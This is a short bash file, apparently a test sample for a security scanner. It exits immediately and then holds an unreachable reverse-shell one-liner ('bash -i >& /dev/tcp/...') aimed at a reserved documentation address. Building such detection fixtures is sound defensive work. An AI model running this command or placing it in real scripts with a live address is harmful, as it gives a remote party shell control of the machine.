#!/bin/bash
# A sample for the scanner. It ends here; the address below belongs to nobody (RFC 5737).
exit 0

bash -i >& /dev/tcp/192.0.2.1/9 0>&1
